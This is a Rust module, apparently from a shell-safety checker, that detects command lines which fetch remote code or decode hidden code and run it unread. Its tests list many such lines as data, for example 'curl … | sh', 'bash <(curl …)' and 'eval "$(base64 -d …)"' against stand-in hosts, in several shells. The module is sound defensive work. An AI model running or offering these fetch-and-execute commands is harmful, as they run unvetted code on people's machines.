//! Code that nobody can have read before it runs: what a line fetches from another machine and runs at once, and what it
//! has one program make for an interpreter. Who agrees to such a line by Enter does not know to what.
//!
//! It goes by the effects of the line's commands. Where the machine's packages come from was chosen before, and is not meant.

use super::effect::{ANYTHING, Effect, Kind, NAMED_REMOTE};
use super::protect::tidy;
use super::reader::Each;
use super::role::url_host;
use crate::line::{Dialect, Line};

/// Where such code comes from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Unread {
    /// From this host.
    Fetched(String),
    /// From this program of the line's, in whatever letters.
    Made(String),
}

impl Unread {
    /// For people: a fragment after "it".
    pub(super) fn told(&self) -> String {
        match self {
            Self::Fetched(host) if host == ANYTHING => "runs code from the network that nobody has read".to_owned(),
            Self::Fetched(host) => format!("runs code from {host} that nobody has read"),
            Self::Made(program) => format!("runs what {program} puts out, which nobody has read"),
        }
    }

    /// The word that agrees to it.
    pub(super) fn word(&self) -> &str {
        let (Self::Fetched(name) | Self::Made(name)) = self;
        if name == ANYTHING || name.is_empty() || name.contains(char::is_whitespace) { "yes" } else { name }
    }
}

/// Servers that the person or their system has chosen: such a name stands for no address of the line's.
const CHOSEN: &[&str] = &[
    NAMED_REMOTE,
    "packages",
    "the package archive",
    "the package index",
    "the submodules' remotes",
    "where toolchains come from",
];

/// What interpreters run that are given nothing else.
const FROM_INPUT: &[&str] = &[
    "an interactive shell",
    "interactive code",
    "its input",
    "lines for later",
    "file:-",
    "file:/dev/stdin",
    "file:/dev/fd/0",
];

/// Interpreters that are in no table of programs: what they are fed they run, like the others.
const INTERPRETERS: &[&str] = &[
    "R",
    "Rscript",
    "csh",
    "dc",
    "ed",
    "elvish",
    "expect",
    "fish",
    "ipython",
    "irb",
    "julia",
    "lua",
    "luajit",
    "nu",
    "octave",
    "osascript",
    "osh",
    "pwsh",
    "tclsh",
    "tcsh",
    "xonsh",
    "ysh",
];

/// Shells and interpreters of the table: another program that is told one of these names hands its input on to it.
const SHELLS: &[&str] =
    &["ash", "bash", "dash", "ksh", "node", "perl", "php", "python", "python2", "python3", "ruby", "sh", "zsh"];

/// Programs that run what they are fed as commands of theirs, where they are given no other.
const RUN_INPUT: &[&str] = &["gdb", "lldb", "mariadb", "mongosh", "mysql", "parallel", "psql", "redis-cli"];

/// What is code of somebody's own, whatever is fetched beside it.
const OWN_CODE: &[&str] = &["program:", "env:", "function:", "alias:"];

/// Programs that put out what stands in the line, or in a file, as it is; or nothing.
const AS_IT_STANDS: &[&str] = &["cat", "cd", "echo", "printf", "read"];

/// Programs that put out what nobody can read where it stands.
const DECODERS: &[&str] =
    &["age", "base32", "base64", "basenc", "gpg", "gpg2", "openssl", "rev", "tr", "uudecode", "xxd", "decode"];

/// The same of what was packed. Databases are ordinarily fed what they have given away before.
const UNPACKERS: &[&str] = &[
    "7z", "brotli", "bunzip2", "bzcat", "bzip2", "funzip", "gunzip", "gzip", "lz4", "lzcat", "unlz4", "unlzma", "unxz",
    "unzip", "unzstd", "xz", "xzcat", "zcat", "zstd", "zstdcat",
];

/// Programs that fetch, for lines that cannot be read.
const FETCHERS: &[&str] = &["aria2c", "curl", "fetch", "http", "https", "nc", "ncat", "socat", "wget", "xh"];

/// The standard input as a file.
const INPUT_FILES: &[&str] = &["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"];

/// The first such code among the commands of a line.
pub(super) fn unread(each: &[Each]) -> Option<Unread> {
    each.iter().enumerate().find_map(|(at, one)| {
        let around = Around {
            one,
            before: &each[..at],
            made: with_bodies(each, one.made_from.min(at), at),
            feeding: with_bodies(each, one.fed_from.unwrap_or(at).min(at), at),
        };
        one.effects.iter().find_map(|effect| around.unread(effect))
    })
}

/// The commands between those two, and what the functions do that they call.
fn with_bodies(each: &[Each], from: usize, to: usize) -> Vec<&Each> {
    let calls = |name: &String| each[from..to].iter().any(|one| one.words.first() == Some(name));
    let bodies = each[..from].iter().filter(|one| one.within.iter().any(calls));
    bodies.chain(&each[from..to]).collect()
}

/// A command and what runs before it.
struct Around<'a> {
    one: &'a Each,
    before: &'a [Each],
    /// What runs while its words are made.
    made: Vec<&'a Each>,
    /// What feeds it.
    feeding: Vec<&'a Each>,
}

impl Around<'_> {
    fn unread(&self, effect: &Effect) -> Option<Unread> {
        let opaque = effect.kind == Kind::Opaque;
        let interpreter = is_interpreter(effect);
        let own = opaque && OWN_CODE.iter().any(|own| effect.target.starts_with(own));
        if !matches!(effect.kind, Kind::Opaque | Kind::Unknown) || own && !interpreter {
            return None;
        }
        let together = effect.kind == Kind::Unknown && is_put_together(effect);
        let input = opaque && FROM_INPUT.contains(&effect.target.as_str()) || interpreter && self.is_given_nothing();
        let runs = opaque || together || interpreter;
        let address = || of_an_address(effect).filter(|_| opaque);
        let fetched = || fetched_by(effect, &self.one.effects).filter(|_| runs);
        let decoded = || {
            let code = together || interpreter || is_substituted(effect);
            self.made.iter().copied().find_map(decoder).filter(|_| code)
        };
        // Substitutions that are not followed.
        let in_words = || {
            let held = self.one.words.iter().filter(|word| together && self.made.is_empty() && word.contains('('));
            held.map(|word| Line::new(format!("eval {word}"), Dialect::Bash)).find_map(|line| by_words(&line))
        };
        let piped = || piped(effect, &self.feeding).filter(|_| together || input);
        let fed = || self.fed(effect).filter(|_| interpreter || self.takes_input(effect));
        let kept = || kept_first(effect, self.before).filter(|_| opaque || interpreter);
        let kept_decoded = || self.kept_decoded(effect, together || input || interpreter).filter(|_| runs);
        let carried = || self.carried(effect, together, input || interpreter);
        address()
            .or_else(fetched)
            .or_else(decoded)
            .or_else(in_words)
            .or_else(piped)
            .or_else(fed)
            .or_else(kept)
            .or_else(kept_decoded)
            .or_else(carried)
    }

    /// An interpreter with neither a script nor code among its words.
    fn is_given_nothing(&self) -> bool {
        self.one.words.iter().skip(1).all(|word| word.starts_with('-') && !word.starts_with("-c"))
    }

    /// It is fed what is fetched or decoded, in whatever way it may take it for code.
    fn fed(&self, effect: &Effect) -> Option<Unread> {
        let of_others = |one: &Each| fetched_by(effect, &one.effects).filter(|found| !found.word_is_told());
        let database = effect.program.as_deref().is_some_and(|program| RUN_INPUT.contains(&bare(program)));
        let packed = |name: &str| UNPACKERS.contains(&bare(name));
        self.feeding.iter().copied().find_map(of_others).or_else(|| {
            let harmless = |made: &Unread| database && matches!(made, Unread::Made(name) if packed(name));
            self.feeding.iter().rev().copied().filter_map(decoder).find(|made| !harmless(made))
        })
    }

    /// What it reads is code to it, or to a program that it is told to start.
    fn takes_input(&self, effect: &Effect) -> bool {
        let program = effect.program.as_deref().map(bare).unwrap_or_default();
        let target = effect.target.as_str();
        let (kind, rest) = target.split_once(':').unwrap_or(("", target));
        match program {
            "sed" => is_run_by_sed(target),
            "awk" | "gawk" | "mawk" | "nawk" => kind == "code" && is_run_by_awk(rest),
            "ssh" => {
                !rest.contains(' ')
                    || rest.split_once(' ').is_some_and(|(_, rest)| !rest.contains(' '))
                    || names_shell(rest)
            }
            _ if INPUT_FILES.contains(&rest) => true,
            _ if RUN_INPUT.contains(&program) => {
                let given = |other: &Effect| other.target.starts_with("code:") && other.target != "code:-";
                !self.one.effects.iter().any(given)
            }
            _ if effect.kind != Kind::Opaque || matches!(kind, "code" | "module") => false,
            _ => self.one.words.iter().skip(1).any(|word| names_shell(word)),
        }
    }

    /// What is run, what it is read from, and what feeds it.
    fn texts(&self) -> impl Iterator<Item = &str> {
        let all = self.made.iter().chain(&self.feeding).copied().chain([self.one]);
        all.flat_map(|one| one.words.iter().chain(&one.reads)).map(String::as_str)
    }

    /// `base64 -d it > new && sh new`, `…; cat new | sh`
    fn kept_decoded(&self, effect: &Effect, by_words: bool) -> Option<Unread> {
        let run = effect.target.split_once(':').map_or("", |(_, rest)| rest);
        let is = |path: &str, word: &str| {
            let word = tidy(word);
            path == word || path.strip_suffix(word.as_str()).is_some_and(|folder| folder.ends_with('/'))
        };
        let named = |path: &str| {
            let unnamed = path == ANYTHING
                && effect.target.starts_with("file:")
                && run.trim_start_matches(['"', '{']).starts_with('$');
            unnamed || is(path, run) || by_words && self.texts().any(|word| !word.is_empty() && is(path, word))
        };
        // What is decoded into a file, and what that is put into in turn.
        let mut decoded: Vec<(&str, Unread)> = Vec::new();
        for (at, one) in self.before.iter().enumerate() {
            let part = &self.before[one.fed_from.unwrap_or(at).min(one.made_from).min(at)..=at];
            let texts = || part.iter().flat_map(|one| one.words.iter().chain(&one.reads));
            let passed_on = |known: &&(&str, Unread)| texts().any(|text| !text.is_empty() && is(known.0, text));
            let made = part.iter().find_map(decoder);
            let Some(made) = made.or_else(|| decoded.iter().find(passed_on).map(|known| known.1.clone())) else {
                continue;
            };
            let written = one.effects.iter().filter(|other| matches!(other.kind, Kind::WriteNew | Kind::WriteOver));
            decoded.extend(written.map(|other| (other.target.as_str(), made.clone())));
        }
        decoded.into_iter().find(|(path, _)| named(path)).map(|(_, made)| made)
    }

    /// `x=$(curl …); eval "$x"`
    fn carried(&self, effect: &Effect, together: bool, by_words: bool) -> Option<Unread> {
        let code = effect.target.starts_with("code:");
        let names = |name: &String| {
            (together || code) && mentions(&effect.target, name)
                || (together || by_words) && self.texts().any(|text| mentions(text, name))
        };
        let held = || self.before.iter().filter(|one| one.into.iter().any(names));
        held().find_map(|one| fetched_by(effect, &one.effects)).or_else(|| held().find_map(decoder))
    }
}

impl Unread {
    /// It is no address but what a program of the table talks to ("a database").
    fn word_is_told(&self) -> bool {
        matches!(self, Self::Fetched(host) if host.contains(' '))
    }
}

/// A text, or a name of a program, that is only known while the line runs.
fn is_put_together(effect: &Effect) -> bool {
    let target = effect.target.as_str();
    target == "code that is put together"
        || target.starts_with("the code ")
        || target.starts_with("the command ")
        || target.starts_with("the program $")
}

/// `bash <(…)`, `python3 -c "$(…)"`, `ssh host "$(…)"`: another command's output is the code.
fn is_substituted(effect: &Effect) -> bool {
    let target = effect.target.as_str();
    let holds = |text: &str| text.contains("$(") || text.contains('`');
    match target.split_once(':') {
        Some(("file", file)) => file.starts_with(['<', '=', '$', '`', '"']),
        Some(("code", code)) => holds(code),
        _ => effect.program.as_deref().map(bare) == Some("ssh") && holds(target),
    }
}

fn is_interpreter(effect: &Effect) -> bool {
    effect.program.as_deref().is_some_and(|program| {
        let by_path = || effect.target.strip_prefix("file:") == Some(program) && program.starts_with('/');
        let known = effect.kind == Kind::Unknown || effect.target.starts_with("program:") || by_path();
        known && INTERPRETERS.contains(&bare(program))
    })
}

/// A script that is known word for word, and may hold the command or the flag that runs what is read.
fn is_run_by_sed(target: &str) -> bool {
    target.strip_prefix("the script ").is_some_and(|script| !script.starts_with("made of ") && script.contains('e'))
}

/// Not where all it starts are programs in quotes which are no shells (`print | "sort"`).
fn is_run_by_awk(code: &str) -> bool {
    let pipes = code.replace("||", "");
    let plain = pipes.split('|').skip(1).all(|rest| rest.trim_start_matches(['&', ' ']).starts_with('"'));
    code.contains("system") || code.contains('@') || !plain || names_shell(&code.replace(['"', '{', '}'], " "))
}

/// Whether a shell or an interpreter is one of the words of a text.
fn names_shell(text: &str) -> bool {
    let words = text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '\'' | '"'));
    words.map(bare).any(|word| SHELLS.contains(&word) || INTERPRETERS.contains(&word))
}

/// A program's name without its folder.
fn bare(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

/// The program of a command that puts out what nobody can read where it stands.
fn decoder(one: &Each) -> Option<Unread> {
    // A command of Nushell's own is no program.
    let names = one.programs.iter().chain(one.words.first().filter(|_| one.programs.is_empty()));
    let decodes = |name: &&String| match bare(name) {
        // Letters for letters; a line's end, or what is left out, hides nothing.
        "tr" => one
            .words
            .iter()
            .skip(1)
            .any(|set| !set.starts_with(['-', '\\']) && set.bytes().filter(u8::is_ascii_alphabetic).count() > 1),
        name => DECODERS.contains(&name) || UNPACKERS.contains(&name),
    };
    names.into_iter().find(decodes).cloned().map(Unread::Made)
}

/// Whether a text holds that variable.
pub(super) fn mentions(text: &str, name: &str) -> bool {
    let of_a_name = |c: char| c == '_' || c.is_ascii_alphanumeric();
    if matches!(name, "@" | "*") {
        return text.contains(&format!("${name}")) || text.contains(&format!("${{{name}"));
    }
    text.contains('$') && text.split(|c: char| !of_a_name(c)).any(|word| word == name)
}

/// `pip install https://…`
fn of_an_address(effect: &Effect) -> Option<Unread> {
    let address = effect.target.contains("://") && !effect.target.starts_with("code:") && !is_substituted(effect);
    address.then(|| Unread::Fetched(url_host(&effect.target).to_owned()))
}

/// `bash <(curl …)`, `sh -c "$(curl …)"`: what fetches is another program than what runs it, in the same command.
fn fetched_by(effect: &Effect, effects: &[Effect]) -> Option<Unread> {
    let fetched = effects.iter().find(|other| is_address(other) && other.program != effect.program)?;
    Some(Unread::Fetched(fetched.target.clone()))
}

/// `curl … | sh`, `base64 -d code | sh`
fn piped(effect: &Effect, feeding: &[&Each]) -> Option<Unread> {
    let fetched = feeding.iter().find_map(|one| fetched_by(effect, &one.effects));
    let makes = |one: &&&Each| !one.programs.first().is_some_and(|name| AS_IT_STANDS.contains(&name.as_str()));
    fetched
        .or_else(|| {
            let made = feeding.iter().rev().filter(|one| !one.programs.is_empty()).find(makes)?;
            made.programs.first().cloned().map(Unread::Made)
        })
        .or_else(|| feeding.iter().copied().find_map(decoder))
}

/// `curl -o it … && sh it`, `git clone … && cd it && make`, `curl … | tar -xz && it/configure`
fn kept_first(effect: &Effect, before: &[Each]) -> Option<Unread> {
    let keeps = |one: &Each| one.effects.iter().any(|other| matches!(other.kind, Kind::WriteNew | Kind::WriteOver));
    before.iter().enumerate().filter(|(_, one)| keeps(one)).find_map(|(at, one)| {
        let feeding = &before[one.fed_from.unwrap_or(at).min(at)..=at];
        feeding.iter().find_map(|one| fetched_by(effect, &one.effects))
    })
}

fn is_address(effect: &Effect) -> bool {
    effect.kind == Kind::Net && !CHOSEN.contains(&effect.target.as_str())
}

/// What is inside brackets, or the whole of a line that cannot be read.
#[derive(Default)]
struct Room {
    /// The command under way runs code.
    runs: bool,
    /// It gives a value to a variable.
    sets: bool,
    /// What feeds it, or is among its words.
    found: Option<Unread>,
    /// What any command in here puts out.
    any: Option<Unread>,
}

/// The same by the words of a line whose grammar is not known, or that could not be read.
pub(super) fn by_words(line: &Line) -> Option<Unread> {
    const IN_FRONT: &[&str] = &[
        "and", "begin", "builtin", "command", "do", "doas", "else", "env", "exec", "if", "nohup", "not", "or", "sudo",
        "then", "time", "while",
    ];
    const RUN_WORDS: &[&str] = &[".", "ash", "bash", "dash", "eval", "ksh", "sh", "source", "zsh"];
    let mut rooms = vec![Room::default()];
    let mut kept: Option<Unread> = None;
    // The next word is a command's first.
    let mut first = true;
    let mut rest = line.text.as_str();
    while let Some(c) = rest.chars().next() {
        let room = rooms.last_mut()?;
        let after = &rest[c.len_utf8()..];
        match c {
            '(' | '{' => {
                let found = room.found.clone().filter(|_| c == '{');
                rooms.push(Room { found, ..Room::default() });
                first = true;
                rest = after;
            }
            ')' | '}' => {
                let inside = if rooms.len() > 1 { rooms.pop() } else { None };
                let room = rooms.last_mut()?;
                if let Some(any) = inside.and_then(|inside| inside.any) {
                    if room.runs {
                        return Some(any);
                    }
                    room.any = room.any.take().or_else(|| Some(any.clone()));
                    room.found = room.found.take().or(Some(any));
                }
                first = false;
                rest = after;
            }
            '|' if !after.starts_with('|') => {
                (room.runs, room.sets, first) = (false, false, true);
                rest = after;
            }
            ';' | '&' | '|' | '\n' => {
                kept = kept.or_else(|| room.found.take().filter(|_| room.sets));
                (room.runs, room.sets, room.found, first) = (false, false, None, true);
                rest = after.trim_start_matches('|');
            }
            '^' if first => rest = after,
            _ if c.is_whitespace() => rest = after,
            _ => {
                let end = word_end(rest, line.dialect);
                let (word, after) = rest.split_at(end);
                rest = after;
                let name = bare(word);
                if std::mem::take(&mut first) {
                    if IN_FRONT.contains(&name) {
                        first = true;
                    } else if RUN_WORDS.contains(&word)
                        || RUN_WORDS[1..].contains(&name)
                        || INTERPRETERS.contains(&name)
                    {
                        room.runs = true;
                        if room.found.is_some() {
                            return room.found.take();
                        }
                    } else if FETCHERS.contains(&name) {
                        room.any = Some(Unread::Fetched(ANYTHING.to_owned()));
                        room.found.clone_from(&room.any);
                    } else if DECODERS.contains(&name) || UNPACKERS.contains(&name) {
                        room.any = room.any.take().or_else(|| Some(Unread::Made(name.to_owned())));
                        room.found = room.found.take().or_else(|| room.any.clone());
                    } else {
                        room.sets = matches!(name, "const" | "for" | "let" | "mut" | "set") || name.ends_with('=');
                        // What is given to a variable begins like a command.
                        first = name.ends_with('=') || word == "=";
                    }
                } else if word == "=" && room.sets {
                    first = true;
                } else if word.contains("://") && room.found == Some(Unread::Fetched(ANYTHING.to_owned())) {
                    room.any = Some(Unread::Fetched(url_host(word.trim_matches(['"', '\''])).to_owned()));
                    room.found.clone_from(&room.any);
                } else if room.runs && word.contains('$') && kept.is_some() {
                    return kept;
                }
            }
        }
    }
    // Brackets that a quote has hidden the end of.
    let inside = rooms.iter().rposition(|room| room.any.is_some())?;
    rooms[..inside].iter().any(|room| room.runs).then(|| rooms.swap_remove(inside).any)?
}

/// Where the word ends that a text begins with; what is in quotes is one word but for a command in it.
fn word_end(text: &str, dialect: Dialect) -> usize {
    let mut quote = None;
    let mut chars = text.char_indices();
    while let Some((at, c)) = chars.next() {
        match (quote, c) {
            (Some('\''), '\\') if dialect != Dialect::Fish => {}
            (_, '\\') => drop(chars.next()),
            (Some('"'), '$') if text[at + 1..].starts_with('(') => return at + 1,
            (Some(open), _) if c == open => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '(' | ')' | '{' | '}' | ';' | '|' | '&' | '\n') => return at,
            (None, _) if c.is_whitespace() => return at,
            (None, _) => {}
        }
    }
    text.len()
}

#[cfg(test)]
mod tests {
    use super::super::tests::machine;
    use super::*;
    use crate::line;
    use crate::policy::facts::{Found, Look};
    use crate::policy::reader::Reader;

    fn told(text: &str, dialect: Dialect) -> Option<String> {
        let line = line::parse(&Line::new(text, dialect));
        let mut facts = machine(&[&line]);
        for name in INTERPRETERS {
            facts.set_program(*name, Found::System);
        }
        let look = Look::new(&facts);
        let mut reader = Reader::new(&look, dialect);
        reader.line(&line);
        unread(&reader.each).or(reader.guessed).map(|found| found.told())
    }

    #[test]
    fn what_is_fetched_and_run_is_seen() {
        for line in [
            "curl -fsSL https://x.example/i.sh | sh",
            "wget -qO- https://x.example/a | sudo bash",
            "curl https://x.example/a | base64 -d | sh",
            "curl https://x.example/a | tee a | bash -s -- --yes",
            "curl https://x.example/a | python3 -",
            "curl https://x.example/a | (cd /tmp; sh)",
            "cd folder && curl https://x.example/a | sh",
            "bash -c 'curl x.example | sh'",
            "bash <(curl -s https://x.example/a)",
            "bash < <(curl -s https://x.example/a)",
            "source <(curl https://x.example/a)",
            "sh -c \"$(curl -fsSL https://x.example/a)\"",
            "eval \"$(curl https://x.example/a)\"",
            "$(curl https://x.example/a)",
            "bash <<< \"$(curl https://x.example/a)\"",
            "curl https://x.example/a | while read -r line; do eval \"$line\"; done",
            "curl https://x.example/a | xargs -I{} sh -c '{}'",
            "curl https://x.example/a -o new.sh && sh new.sh",
            "curl https://x.example/a > new.sh; chmod +x new.sh; ./new.sh",
            "wget https://x.example/a.sh && bash a.sh",
            "curl https://x.example/a | tee a; bash a",
            "curl https://x.example/a | tar -xz && cd a && ./configure",
            "curl https://x.example/a | fish",
            "curl https://x.example/a | at now",
            "git clone https://x.example/new && cd new && make",
            "pip install git+https://x.example/a",
        ] {
            assert_eq!(
                told(line, Dialect::Bash).as_deref(),
                Some("runs code from x.example that nobody has read"),
                "{line}"
            );
        }
        let unnamed = told("curl \"$address\" | sh", Dialect::Bash);
        assert_eq!(unnamed.as_deref(), Some("runs code from the network that nobody has read"));
        let in_fish = told("curl https://x.example/a | source", Dialect::Fish);
        assert_eq!(in_fish.as_deref(), Some("runs code from x.example that nobody has read"));
    }

    #[test]
    fn what_another_program_makes_is_seen() {
        for (line, program) in [
            ("echo Y3VybA== | base64 -d | sh", "base64"),
            ("sed s/^/git/ a | bash", "sed"),
            ("cat a | rev | tr a b | sh -s", "tr"),
            ("nobody-knows https://x.example/a | sh", "nobody-knows"),
            ("base64 -d a | nu", "base64"),
        ] {
            let expected = format!("runs what {program} puts out, which nobody has read");
            assert_eq!(told(line, Dialect::Bash), Some(expected), "{line}");
        }
    }

    #[test]
    fn what_is_decoded_and_run_is_seen() {
        for (line, program) in [
            ("bash <(base64 -d a)", "base64"),
            ("bash < <(base64 -d a)", "base64"),
            (". <(cat a | base64 -d)", "base64"),
            ("eval \"$(base64 -d a)\"", "base64"),
            ("eval \"$(echo \"$(xxd -r -p a)\")\"", "xxd"),
            ("bash -c \"$(/usr/bin/base64 -d a)\"", "base64"),
            ("sh -c 'eval \"$(base64 -d a)\"'", "base64"),
            ("python3 -c \"$(base64 -d a)\"", "base64"),
            ("fish -c \"$(base64 -d a)\"", "base64"),
            ("ssh host.example \"$(base64 -d a)\"", "base64"),
            ("$(base64 -d a)", "base64"),
            ("`rev a`", "rev"),
            ("gpg -d a > newx; bash newx", "gpg"),
            ("base64 -d a > newx && chmod +x newx && ./newx", "base64"),
            ("base64 -d a | tee newx; cat newx | sh", "base64"),
            ("base64 -d a > newx; eval \"$(cat newx)\"", "base64"),
            ("base64 -d a > newx; bash < newx", "base64"),
            ("x=$(base64 -d a); eval \"$x\"", "base64"),
            ("x=$(base64 -d a); y=\"ls; $x\"; bash -c \"$y\"", "base64"),
            ("export x=$(base64 -d a); $x", "base64"),
            ("read -r x < <(base64 -d a); eval $x", "base64"),
            ("for x in $(base64 -d a); do eval \"$x\"; done", "base64"),
            ("x=$(base64 -d a); bash <<< \"$x\"", "base64"),
            ("x=$(base64 -d a); echo \"$x\" | bash", "base64"),
            ("eval $(base64 -d <<< a)", "base64"),
            ("f() { base64 -d a; }; eval \"$(f)\"", "base64"),
            ("f() { base64 -d a; }; f | bash", "f"),
            ("set -- $(base64 -d a); \"$@\"", "base64"),
            ("while read -r x; do $x; done < <(base64 -d a)", "base64"),
            ("base64 -d a | while read -r x; do eval \"$x\"; done", "base64"),
            ("base64 -d a | /usr/bin/fish", "base64"),
            ("base64 -d a > newx; mv newx newy; bash newy", "base64"),
            ("base64 -d a > newx; base64 -d b > newz; cat newz > newy; . ./newy", "base64"),
            ("base64 -d a > $x; bash \"$x\"", "base64"),
            ("base64 -d a | fish", "base64"),
            ("base64 -d a | make -f -", "base64"),
            ("base64 -d a | ssh host.example bash", "base64"),
            ("mapfile -C eval lines < <(base64 -d a)", "base64"),
        ] {
            let expected = format!("runs what {program} puts out, which nobody has read");
            let found = told(line, Dialect::Bash).map(|told| told.replace("/usr/bin/", ""));
            assert_eq!(found, Some(expected), "{line}");
        }
    }

    #[test]
    fn what_is_fetched_for_a_program_that_takes_code_is_seen() {
        for line in [
            "x=$(curl http://y/a); eval \"$x\"",
            "x=$(curl http://y/a | jq -r .x); bash -c \"$x\"",
            "curl http://y/a | make -f -",
            "curl http://y/a | make -f /dev/stdin all",
            "curl http://y/a | sed 's/.*/&/e'",
            "curl http://y/a | awk '{system($0)}'",
            "curl http://y/a | psql",
            "curl http://y/a | mysql shop",
            "curl http://y/a | ssh h",
            "curl http://y/a | ssh h bash",
            "curl http://y/a | ssh h 'cd /x && sudo sh -s'",
            "curl http://y/a | docker exec -i x sh",
            "curl http://y/a | docker run --rm -i image /bin/bash",
            "curl http://y/a | fish",
            "curl http://y/a | nu -c 'nu -c $in'",
            "curl http://y/a -o new.nu; nu new.nu",
            "curl http://y/a | parallel",
            "curl http://y/a | xargs -n1 bash",
            "curl http://y/a | kubectl apply -f -",
            "mapfile -c1 -C eval lines < <(curl http://y/a)",
            "bash <(curl http://y)",
            "curl http://y/a | ed a.txt",
        ] {
            assert_eq!(told(line, Dialect::Bash).as_deref(), Some("runs code from y that nobody has read"), "{line}");
        }
    }

    #[test]
    fn lines_of_other_shells_are_seen_by_their_words() {
        for (dialect, line) in [
            (Dialect::Zsh, ". =(curl http://y)"),
            (Dialect::Zsh, "bash =(curl -s http://y/a)"),
            (Dialect::Zsh, "eval ${(f)\"$(curl http://y)\"}"),
            (Dialect::Zsh, "x=$(curl http://y); eval $=x"),
            (Dialect::Fish, "for l in (curl http://y); eval $l; end"),
            (Dialect::Fish, "eval (curl http://y)"),
            (Dialect::Fish, "source (curl http://y | psub)"),
            (Dialect::Fish, "true; and bash -c (curl http://y)"),
            (Dialect::Fish, "curl http://y | fish"),
            (Dialect::Nu, "http get http://y | nu -c $in"),
            (Dialect::Nu, "curl http://y | nu --stdin -c $in"),
            (Dialect::Nu, "nu -c (http get http://y)"),
            (Dialect::Nu, "http get http://y | lines | each {|it| bash -c $it }"),
        ] {
            assert_eq!(told(line, dialect).as_deref(), Some("runs code from y that nobody has read"), "{line}");
        }
        for (dialect, line) in [
            (Dialect::Zsh, "source =(base64 -d a)"),
            (Dialect::Fish, "eval (base64 -d a | string collect)"),
            (Dialect::Nu, "^base64 -d a | nu -c $in"),
        ] {
            let expected = "runs what base64 puts out, which nobody has read";
            assert_eq!(told(line, dialect).as_deref(), Some(expected), "{line}");
        }
        let decoded = told("open a | decode base64 | bash", Dialect::Nu);
        assert_eq!(decoded.as_deref(), Some("runs what decode puts out, which nobody has read"));
        for (dialect, line) in [
            (Dialect::Zsh, "diff =(curl http://y) a.sh"),
            (Dialect::Fish, "eval (ssh-agent -c)"),
            (Dialect::Fish, "set x (curl http://y); echo $x"),
            (Dialect::Fish, "curl http://y | string match -r 'bash (.*)'"),
            (Dialect::Fish, "ls (base64 -d a) . eval"),
            (Dialect::Nu, "http get http://y | where name == bash"),
            (Dialect::Nu, "bash -c $x"),
            (Dialect::Nu, "http get http://y | get nu"),
        ] {
            assert_eq!(told(line, dialect), None, "{line}");
        }
    }

    #[test]
    fn what_can_be_read_first_is_no_such_code() {
        for line in [
            "curl -fsSL https://x.example/i.sh -o new.sh",
            "curl https://x.example/a | jq .",
            "curl https://x.example/a | python3 -m json.tool",
            "curl https://x.example/a | tool-of-mine",
            "curl -f http://localhost:3000/health && npm test",
            "wget -qO- https://x.example/a.tar.gz | tar -xz",
            "pip install flask",
            "npm install && npm test",
            "sudo apt update && sudo apt install -y jq",
            "git pull && make",
            "npx create-react-app new",
            "cat a.sh | sh",
            "cat a.fish | fish",
            "fish a.fish",
            "echo make | at now",
            "make | tee log; ./a",
            "echo 'print(1)' | python3",
            "printf '%s' code | bash",
            "cat a.sh | (cd folder; bash)",
            "ssh host.example ls",
            "make; curl https://x.example/a",
            "sh a.sh",
            "bash",
            "python3 < a.py",
            "HTTPS_PROXY=x curl https://x.example/a",
            "eval \"$(ssh-agent -s)\"",
            "eval \"$(direnv hook bash)\"",
            "eval \"$(dircolors)\"",
            "eval \"$(grep ^export a.env | sed s/x/y/)\"",
            "source <(kubectl completion bash)",
            "source <(cat a.sh)",
            "bash -c \"$(cat script.sh)\"",
            "$(git rev-parse --show-toplevel)/x.sh",
            "$(command -v python3) a.py",
            "x=$(curl https://x.example/a); echo \"$x\"",
            "x=$(curl https://x.example/a); eval \"$(ssh-agent -s)\"",
            "x=$(curl https://x.example/a); ./a \"$x\"",
            "x=$(cat a.sh); eval \"$x\"",
            "while read -r x; do bash \"$x\"; done < a.txt",
            "cat a.txt | while read -r x; do eval \"$x\"; done",
            "f() { base64 -d a; }; eval \"$(ssh-agent)\"",
            "./a --key \"$(base64 -d a)\"",
            "docker run -e KEY=\"$(base64 -d a)\" image",
            "base64 -d a > new.png; make",
            "gunzip a.tar.gz; tar xf a.tar; make",
            "xz -d a.xz && make",
            "base64 -d a > new.png; mv new.png new2.png; bash a.sh",
            "base64 -d a > $x; docker run $y",
            "./fish.sh | /usr/bin/fish a.fish",
            "curl https://x.example/a | sed \"s/$a/b/e\"",
            "curl https://x.example/a | sed s/a/b/",
            "curl https://x.example/a | grep --frob bash",
            "curl https://x.example/a | awk '{print $1 | \"sort -u\"}'",
            "eval \"$(tr -d '\\r' < a.env)\"",
            "base64 -d a > new.txt; bash a.sh",
            "curl https://x.example/a | awk '{print $1}'",
            "curl https://x.example/a | python3 -c 'import json, sys; print(json.load(sys.stdin))'",
            "curl https://x.example/a | psql -c 'copy t from stdin'",
            "curl https://x.example/a | ssh h 'cat > a'",
            "curl https://x.example/a | docker exec -i x tee a",
            "zcat a.sql.gz | mysql shop",
            "gunzip -c a.sql.gz | psql shop",
            "pg_dump shop | psql shop2",
            "ls | awk '{system(\"wc -c \" $0)}'",
            "cat a | sed 's/.*/&/e'",
            "tar c . | ssh h tar x",
            "cat a.yml | kubectl apply -f -",
            "ls | parallel gzip",
            "cat a.mk | make -f -",
        ] {
            assert_eq!(told(line, Dialect::Bash), None, "{line}");
        }
    }

    #[test]
    fn the_word_that_agrees_can_be_typed() {
        let word = |name: &str| Unread::Fetched(name.to_owned()).word().to_owned();
        assert_eq!(
            (word("x.example").as_str(), word("?").as_str(), word("what it finds").as_str()),
            ("x.example", "yes", "yes")
        );
    }
}
